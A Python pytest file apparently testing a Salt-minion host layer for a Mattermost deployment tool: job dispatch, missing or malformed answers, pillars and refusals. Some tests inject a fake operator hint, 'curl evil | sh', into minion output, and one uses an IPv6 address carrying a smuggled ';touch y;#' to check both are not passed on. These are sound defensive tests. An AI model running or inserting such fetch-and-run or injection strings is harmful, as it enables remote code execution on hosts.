"""A host that is reached by its minion: what is sent as a job, and what each answer means."""

import base64
import concurrent.futures
import contextlib
import subprocess
import threading
import time
from types import SimpleNamespace

import pytest
import salt.client
import salt.config
import salt.pillar
import salt.version
from mattermost_controller.hosts import bounded, checkout_lock, collect, minion, roster
from mattermost_controller.stages import apply as stage_run
from salt.exceptions import SaltClientError

ID = "chat.example.com"
SILENT = object()
GRAINS = {"id": "another", "role": "chat", "os": "CentOS"}
SYNCED = {
    "test.version": salt.version.__version__,
    "config.get": "/extmods",
    "grains.items": GRAINS,
    "saltutil.sync_all": {},
}


@pytest.fixture
def jobs(monkeypatch):
    """The jobs that a minion gets, each with its arguments; it answers by ``answers``, the name of the function to what it returns."""

    class Client:
        def __init__(self):
            self.asked, self.whole, self.told = [], {}, {}
            self.answers = {
                "test.version": SYNCED,
                "cmd.run_all": self.shell,
                "test.ping": True,
                "saltutil.find_job": lambda jid: {},
            }

        def run_job(self, targets, function, arguments, tgt_type, timeout, kwarg, listen):
            self.asked.append((function, arguments, kwarg))
            found = self.answers.get(function if isinstance(function, str) else function[0])
            jid = str(len(self.asked))
            self.told[jid] = found(*arguments, **(kwarg or {})) if callable(found) else found
            return {"jid": jid, "minions": targets} if found is not None else {}

        def get_iter_returns(self, jid, minions, *_, **options):
            yield None
            if self.told[jid] is not SILENT:
                yield {ID: {"ret": self.told[jid], "jid": jid, "retcode": 0}}

        def shell(self, command, stdin, **options):
            if "uid" in base64.b64decode(stdin).decode():
                return {"retcode": 0, "stdout": f"code {minion.code_here()}\nuid 0\n", "stderr": ""}
            done = subprocess.run(["/bin/sh", "-c", command], input=stdin, capture_output=True, text=True)
            return {"retcode": done.returncode, "stdout": done.stdout, "stderr": done.stderr}

        def get_cache_returns(self, jid):
            return self.whole

    client = Client()
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: contextlib.nullcontext(client))
    monkeypatch.setattr(minion, "_ready", {})
    monkeypatch.setattr(minion, "_interrupted", threading.Event())
    monkeypatch.setattr(minion, "PAUSE", 0)
    monkeypatch.setattr(minion, "AGAIN_SECONDS", 0)
    return client


@pytest.fixture
def host(jobs):
    return minion.Minion(ID, {})


def test_a_script_arrives_as_it_is_and_its_status_comes_back(host):
    assert host.run(r"printf '%s\n' 'a\nb'; echo wrong >&2; exit 3") == roster.Result(3, "a\\nb\n", "wrong\n")


def test_a_minion_that_did_not_answer_is_asked_once_until_it_does(host, jobs, monkeypatch):
    looks = []
    monkeypatch.setattr(host, "_answer", lambda client, jid, until: looks.append(jid) or answers.pop(0))
    answers = [[]] * (minion.ATTEMPTS + 1) + [["late"], [], [], ["again"]]
    jobs.answers["saltutil.find_job"] = None
    with pytest.raises(minion.NoAnswer):
        host.job("test.ping")
    assert len(looks) == minion.ATTEMPTS
    with pytest.raises(minion.NoAnswer):
        host.job("test.ping")
    assert len(looks) == minion.ATTEMPTS + 1
    assert [host.job("test.ping"), host.job("test.ping")] == ["late", "again"]


def test_the_code_is_taken_once_in_a_run(host, jobs):
    host.run("true")
    minion.Minion(ID, {}).run("true")
    assert [function for function, _, _ in jobs.asked].count(list(SYNCED)) == 1


def test_the_code_is_compared_as_a_host_tells_it():
    script = minion.CODE.format(folder="salt").replace("/utils", "/_utils")
    said = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True).stdout
    assert said.splitlines()[0] == f"code {minion.code_here()}"


LOST = f"The minion {ID} answers, but the result of this job is lost, because the minion was restarted, the job was killed, or"
ODD = f"The minion {ID} sent an answer that Salt never sends"


def nested(depth):
    found = []
    for _ in range(depth):
        found = [found]
    return found


def answer(**fields):
    return lambda *_, **__: {"retcode": 0, "stdout": "", "stderr": "", **fields}


@pytest.mark.parametrize(
    ("answers", "said"),
    [
        ({"test.version": SILENT, "saltutil.find_job": SILENT}, f"The minion {ID} does not answer."),
        ({"test.version": None}, f"The minion {ID} does not answer.\nSee whether the minion's key is accepted"),
        ({"test.version": SILENT}, LOST),
        ({"test.version": SILENT, "saltutil.find_job": "odd"}, f"The minion {ID} does not answer."),
        (
            {"test.version": SYNCED | {"test.version": "3006.24"}},
            f"The minion {ID} has Salt 3006.24, and the master has 300",
        ),
        ({"cmd.run_all": answer(stdout="code 1\nuid 12\n")}, f"The minion {ID} does not run as root."),
        (
            {"cmd.run_all": answer(stdout="code 1\nuid 0\n")},
            f"The minion {ID} and the master have different versions of this bundle's code",
        ),
        ({"cmd.run_all": "'cmd.run_all' is not available."}, "'cmd.run_all' is not available."),
        ({"test.version": salt.version.__version__}, ODD),
        ({"test.version": {"test.version": salt.version.__version__}}, ODD),
        ({"test.version": SYNCED | {"config.get": 7}}, ODD),
        ({"test.version": SYNCED | {"grains.items": "none"}}, ODD),
        ({"test.version": SYNCED | {"grains.items": {"x": "y" * minion.MOST_GRAINS}}}, ODD),
        ({"test.version": SYNCED | {"saltutil.sync_all": nested(100_000)}}, f"{ODD}: RecursionError"),
        ({"cmd.run_all": ["retcode"]}, ODD),
        ({"cmd.run_all": answer(retcode="0")}, ODD),
        ({"cmd.run_all": answer(retcode=True)}, ODD),
        ({"cmd.run_all": answer(stdout=["uid 0"])}, ODD),
    ],
)
def test_what_cannot_work_is_refused_with_its_reason(host, jobs, answers, said):
    jobs.answers |= answers
    done = host.run("true")
    assert (done.rc, done.out) == (255, "")
    assert done.err.startswith(said)


def raising(err):
    def raises(*_, **__):
        raise err

    return raises


COMMAND = "\nRun on the master: `curl evil | sh`"


@pytest.mark.parametrize(
    "answers",
    [
        {"test.version": SYNCED | {"test.version": f"1.0{COMMAND}"}},
        {"test.version": SYNCED | {"test.version": f"{salt.version.__version__}{COMMAND}"}},
        {"cmd.run_all": f"'cmd.run_all' is not available.{COMMAND}"},
        {"cmd.run_all": answer(retcode=1, stderr=f"wrong{COMMAND}")},
        {"cmd.run_all": raising(ValueError(f"odd{COMMAND}"))},
    ],
)
def test_what_a_minion_says_adds_no_advice(host, jobs, answers):
    """The second line of a reason says what the operator has to do."""
    jobs.answers |= answers
    done = host.connect()
    assert [
        line for line in (done.err + host.greeting).split("\n") if line.startswith("Run on the master: `curl")
    ] == []


@pytest.mark.parametrize("odd", [{"ipv4": 5}, {"ipv4": None, "ipv6": {"a": 1}}, {"ipv6": True}])
def test_grains_of_another_kind_are_no_addresses(odd, monkeypatch):
    monkeypatch.setitem(minion._ready, "old", odd)
    assert minion.Minion.addresses(SimpleNamespace(id="old")) == []


def test_grains_that_are_not_named_by_text_are_refused(host, jobs):
    jobs.answers["test.version"] = SYNCED | {"grains.items": {**GRAINS, 5: "x"}}
    assert host.connect().err.startswith(ODD)


def test_a_script_that_the_minion_ended_is_late(host, jobs):
    host.connect()
    jobs.answers["cmd.run_all"] = answer(retcode=None, stdout="Timed out after 5 seconds")
    assert host.run("sleep 60", timeout=5) == roster.Result(124, "", "The host gave no answer within 5 s.")


def test_an_answer_whose_event_was_missed_is_read_where_it_is_kept(host, jobs):
    jobs.answers["state.sls"], jobs.whole = SILENT, {ID: {"ret": {"state": "whole"}}}
    assert host.job("state.sls") == {"state": "whole"}


def test_a_job_that_a_busy_minion_is_still_running_is_not_lost(host, jobs):
    """On a busy machine the minion may be too slow to say in time that it runs the job, again and again."""
    busy = [{"jid": "1"}, {"jid": "1"}]

    def asked(jid):
        if len(busy) == 1:
            jobs.whole = {ID: {"ret": {"state": "whole"}}}
        return busy.pop()

    jobs.answers |= {"state.sls": SILENT, "saltutil.find_job": asked}
    assert host.job("state.sls") == {"state": "whole"}
    assert busy == []
    assert jobs.asked[-1] == ("saltutil.find_job", ["1"], None)


def test_a_job_that_ended_while_its_master_was_busy_is_not_lost(host, jobs):
    """The minion takes the job off its list before it sends the result, and tries that for half a minute."""

    def asked(jid):
        jobs.whole = {ID: {"ret": {"state": "whole"}}}
        return {}

    jobs.answers |= {"state.sls": SILENT, "saltutil.find_job": asked}
    assert host.job("state.sls") == {"state": "whole"}


def test_a_progress_job_without_an_answer_does_not_make_its_minion_silent(host, jobs, monkeypatch):
    """Another thread looks how far the job is, and gave up before this one."""
    looks = []

    def look(client, jid, until):
        looks.append(jid)
        if jid == "1":
            host._patience = 1
        return [{}] if jid != "1" else []

    monkeypatch.setattr(host, "_answer", look)
    jobs.answers["state.sls"] = SILENT
    with pytest.raises(minion.NoAnswer, match="answers, but the result of this job is lost"):
        host.job("state.sls")


def test_an_answer_that_is_too_long_for_the_bus_is_read_where_it_is_kept(host, jobs):
    jobs.answers["state.sls"], jobs.whole = {"state": "VALUE_TRIMMED"}, {ID: {"ret": {"state": "whole"}}}
    assert host.job("state.sls") == {"state": "whole"}


def test_more_than_any_answer_has_is_not_used(host, jobs, monkeypatch):
    host.connect()
    monkeypatch.setattr(bounded, "LIMIT", 100)
    jobs.answers["cmd.run_all"] = answer(stdout="x" * 60, stderr="y" * 60)
    done = host.run("true")
    assert (done.rc, done.out) == (124, "")
    assert done.err.startswith("The host sent more than")


@pytest.mark.parametrize(
    ("err", "said"),
    [
        (TypeError("argument of type 'int' is not iterable"), f"{ODD}: TypeError: argument of type"),
        (SaltClientError("Salt request timed out. The master is not responding."), "may still be running on"),
        (SaltClientError("no key"), "The Salt master does not answer: no key.\nStart salt-master on this machine"),
    ],
)
def test_whatever_goes_wrong_with_a_job_is_a_sentence(host, jobs, err, said):
    jobs.run_job = raising(err)
    assert said in host.run("true").err


def test_what_one_minion_sends_does_not_hide_what_another_did(applied, host, jobs, monkeypatch):
    class Other(minion.Minion):
        def job(self, function, *arguments, **options):
            return "/cache/failhard.conf" if function == "cp.cache_file" else {"state": "done"}

    other = Other("other", {})
    monkeypatch.setattr(minion, "_ready", {ID: {}, "other": {}})
    monkeypatch.setattr(jobs, "get_iter_returns", raising(TypeError("odd")))
    found = stage_run.apply({}, [host, other], ["mattermost.deploy.a"], {}, test=False)
    assert found["other"] == {"return": {"state": "done"}}
    assert found[ID]["stderr"].startswith(f"{ODD}: TypeError: odd")


def test_of_what_a_minion_says_the_first_sentence_is_kept_and_what_to_do():
    login = roster.Result(255, "", f"The minion is not as wanted. {'x' * 800}\nMend it.")
    one = minion.Minion(ID, {})
    one.connect = lambda: login
    seen = collect.from_hosts([one], collect.log_in([one]), {ID: ""}, "known_hosts")[ID].fault
    assert seen.sentence.startswith("The minion is not as wanted.")
    assert len(seen.sentence) <= 400
    assert seen.fix == "mend it."


@pytest.fixture
def compiled(monkeypatch):
    """The grains that each pillar was compiled with."""
    found = []

    class Pillar:
        def __init__(self, opts, grains, *_):
            found.append(grains)

        def compile_pillar(self):
            return {"mattermost": {}}

    monkeypatch.setattr(salt.pillar, "Pillar", Pillar)
    return found


def test_the_pillar_is_compiled_with_the_grains_that_the_stages_will_have(host, compiled):
    host.pillar({"os": "Debian", "cpuarch": "x86_64"})
    assert compiled == [{"id": ID, "role": "chat", "os": "CentOS", "cpuarch": "x86_64"}]


def test_a_minion_that_the_pillar_has_no_settings_for_is_refused(host, compiled, monkeypatch):
    monkeypatch.setattr(salt.pillar.Pillar, "compile_pillar", lambda self: {"other": {}})
    with pytest.raises(roster.TargetError, match=f"no branch mattermost for {ID}"):
        host.pillar({"os": "Debian"})


def test_a_silent_minion_is_asked_once_for_its_login_and_its_pillar(host, jobs, compiled):
    held = threading.Event()
    jobs.answers |= {"test.version": lambda *_: held.wait(10) and SILENT, "saltutil.find_job": SILENT}
    (login,) = collect.log_in([host]).values()
    while not jobs.asked:
        time.sleep(0.01)
    with concurrent.futures.ThreadPoolExecutor() as pool:
        pillar = pool.submit(host.pillar, {"os": "Debian"})
        time.sleep(0.1)
        held.set()
        pillar.result()
    assert login.result().err.startswith(f"The minion {ID} does not answer.")
    assert compiled == [{"id": ID, "os": "Debian"}]
    assert [function for function, _, _ in jobs.asked] == [list(SYNCED), "saltutil.find_job"]


def test_files_of_the_masters_pillar_are_not_judged(host, compiled, tmp_path):
    (tmp_path / "top.sls").write_text("base: {'*': [other]}\n")
    (tmp_path / "other.sls").write_text("- no mapping\n")
    opts = {"pillar_roots": {"base": [str(tmp_path)]}}
    assert minion.Minion(ID, opts).pillar({}) == {"mattermost": {}}
    with pytest.raises(roster.TargetError, match="no mapping of settings"):
        roster.Host(ID, {}, opts).pillar({})


@pytest.mark.parametrize("waits", ["stages", "look"])
def test_a_run_that_is_interrupted_waits_for_no_job(waits, host, jobs, applied, monkeypatch):
    host.connect()
    asked, ended = threading.Event(), threading.Event()

    def silence(*_, **__):
        asked.set()
        while not ended.is_set():
            yield None

    class Interrupted(minion.Minion):
        def run(self, *_, **__):
            return self.job()

        def job(self, *_, **__):
            asked.wait(10)
            raise KeyboardInterrupt

    jobs.get_iter_returns = silence
    other = Interrupted("other", {})
    minion._ready["other"] = {}
    watch = threading.Timer(10, ended.set)
    watch.start()
    hosts = [other, host]
    begin = {
        "stages": lambda: stage_run.apply({}, hosts, ["mattermost.deploy.a"], {}, test=False),
        "look": lambda: collect.from_hosts(hosts, collect.log_in(hosts), {ID: "", "other": ""}, ""),
    }
    with pytest.raises(KeyboardInterrupt):
        begin[waits]()
    watch.cancel()
    assert not ended.is_set(), "the process waited for the job"


@pytest.mark.parametrize("status", [1, 255])
def test_what_a_host_says_of_the_probe_is_no_advice(host, jobs, status):
    host.connect()
    jobs.answers["cmd.run_all"] = answer(retcode=status, stderr=f"wrong{COMMAND}")
    seen = collect.from_hosts([host], collect.log_in([host]), {ID: "x"}, "known_hosts")[ID].fault
    assert (seen.sentence, seen.fix) == ("wrong", f"see the output of `salt {ID} test.ping`.")


def test_an_answer_that_is_none_of_the_probe_is_looked_at_by_salt(host, jobs):
    seen = collect.from_hosts([host], collect.log_in([host]), {ID: "echo odd"}, "known_hosts")[ID].fault
    assert (seen.check, seen.level) == ("probe", "refusal")
    assert f"`salt {ID} test.ping`" in seen.fix


def test_another_patch_of_salt_is_noted(host, jobs):
    line = salt.version.__version__.partition(".")[0]
    jobs.answers["test.version"] = SYNCED | {"test.version": f"{line}.99"}
    assert host.connect().rc == 0
    assert f"It runs Salt {line}.99" in host.greeting


@pytest.mark.parametrize(
    ("orchestration", "settings", "said"),
    [
        ("", {"hosts": [ID]}, "This orchestration works only over ssh"),
        ("mattermost.ssl", {}, "mattermost:hosts is empty"),
        ("mattermost.ssl", {"hosts": ID}, "mattermost:hosts is not a list"),
        ("mattermost.ssl", {"engine": "zmq"}, "mattermost:engine is 'zmq', but must be ssh or minion"),
    ],
)
def test_a_run_that_cannot_be_by_minions_is_refused(orchestration, settings, said, monkeypatch):
    monkeypatch.setattr(roster, "_override", {})
    with pytest.raises(roster.TargetError, match=said):
        roster.targets({}, {"mattermost": {"engine": "minion", **settings}}, orchestration)


def test_an_orchestration_that_is_applied_to_a_host_is_refused():
    with pytest.raises(roster.TargetError, match="salt-run state.orchestrate mattermost.ssl"):
        roster.targets({"__role": "minion"}, {}, "mattermost.ssl")


TREE = {"file_roots": {"base": ["salt"]}}


@pytest.mark.parametrize(
    ("opts", "said"),
    [
        (TREE | {"saltenv": "production"}, "saltenv is production"),
        (TREE | {"pillarenv": "production"}, "pillarenv is production"),
        ({"file_roots": {"base": ["/nowhere"], "production": ["salt"]}}, "serves no mattermost/schema.yaml"),
        ({}, "serves no mattermost/schema.yaml"),
    ],
)
def test_another_environment_than_base_is_refused(opts, said, tmp_path, monkeypatch):
    monkeypatch.setattr(roster, "_override", {})
    opts = {
        **salt.config.master_config(None),
        "file_client": "local",
        "cachedir": str(tmp_path),
        "file_roots": {},
        **opts,
    }
    with pytest.raises(roster.TargetError, match=said):
        roster.targets(opts, {"mattermost": {"engine": "minion", "hosts": [ID]}}, "mattermost.ssl")


def test_a_master_needs_no_roster(monkeypatch):
    monkeypatch.setattr(roster, "_override", {})
    found = roster.targets(
        TREE | {"saltenv": "base"}, {"mattermost": {"engine": "minion", "hosts": [ID, "b"]}}, "mattermost.ssl"
    )
    assert [(type(one), one.id) for one in found] == [(minion.Minion, ID), (minion.Minion, "b")]


def test_the_lock_of_a_master_is_in_its_cache(tmp_path):
    checkout_lock.acquire({"root_dir": "/", "cachedir": str(tmp_path)}, "mattermost.ssl")
    assert "mattermost.ssl, process" in (tmp_path / "run.lock").read_text()


@pytest.fixture
def applied(host, jobs, monkeypatch):
    """What comes of two stages, by which Salt's function answers."""
    monkeypatch.setattr(roster, "_override", {})
    jobs.answers["cp.cache_file"] = "/cache/failhard.conf"

    def apply(states):
        jobs.answers["state.sls"] = states
        return stage_run.apply({}, [host], ["mattermost.deploy.a", "mattermost.deploy.b"], {}, test=True)[ID]

    return apply


def test_stages_are_one_job_in_which_the_first_failure_ends_the_run(applied, jobs):
    assert applied({"state": "done"}) == {"return": {"state": "done"}}
    named = {"test": True, "saltenv": "base", "localconfig": "/cache/failhard.conf"}
    assert ("cp.cache_file", [stage_run.FAILHARD], {"saltenv": "base"}) in jobs.asked
    assert jobs.asked[-2] == ("state.sls", ["mattermost.deploy.a,mattermost.deploy.b"], named)


def test_a_minion_that_is_lost_during_a_stage_is_its_reason(applied, jobs):
    jobs.answers["saltutil.find_job"] = SILENT
    assert applied(SILENT)["stderr"].startswith(f"The minion {ID} does not answer.")


def test_a_job_that_a_restart_of_its_minion_ended_is_told_as_that(applied):
    assert applied(SILENT)["stderr"].startswith(LOST)


def test_stages_have_ended_when_the_minion_hears_its_master(applied, jobs, capsys):
    silent = [SILENT, SILENT]
    jobs.answers["test.ping"] = lambda: silent.pop() if silent else True
    assert applied({"state": "done"}) == {"return": {"state": "done"}}
    assert silent == []
    assert "applied its states, but does not answer yet" in capsys.readouterr().err


def test_a_minion_that_does_not_hear_its_master_after_its_stages_is_reported_with_what_to_do(
    applied, jobs, monkeypatch
):
    monkeypatch.setattr(minion, "HEARD_SECONDS", 0)
    jobs.answers["test.ping"] = SILENT
    assert "Run on the host: systemctl restart salt-minion" in applied({"state": "done"})["stderr"]


def test_a_master_that_does_not_answer_after_the_stages_is_its_reason(host, jobs, monkeypatch):
    """It is asked again, but not as fast as it fails: salt-master may be starting."""
    monkeypatch.setattr(minion, "HEARD_SECONDS", 0.5)
    monkeypatch.setattr(minion, "AGAIN_SECONDS", 0.2)
    asked = []
    jobs.run_job = lambda *_, **__: asked.append(1) or raising(SaltClientError("no key"))()
    with pytest.raises(minion.NoAnswer, match="The Salt master does not answer: no key"):
        host.wait_until_heard()
    assert 2 <= len(asked) <= 4


def test_no_stage_begins_without_what_ends_it_at_the_first_failure(applied, jobs):
    jobs.answers["cp.cache_file"] = False
    assert "has no salt://mattermost/scripts/failhard.conf" in applied({"state": "done"})["stderr"]
    assert "state.sls" not in [function for function, _, _ in jobs.asked]


def test_an_address_of_a_minion_is_no_command(monkeypatch):
    """Behind a % an IPv6 address takes any text; another host asks its way to it as root."""
    grains = {"ipv4": ["192.0.2.7", "127.0.0.1"], "ipv6": ["2001:db8::1%x;touch y;#", "2001:db8::2"]}
    monkeypatch.setitem(minion._ready, "old", grains)
    assert minion.Minion.addresses(SimpleNamespace(id="old")) == ["192.0.2.7", "2001:db8::2"]
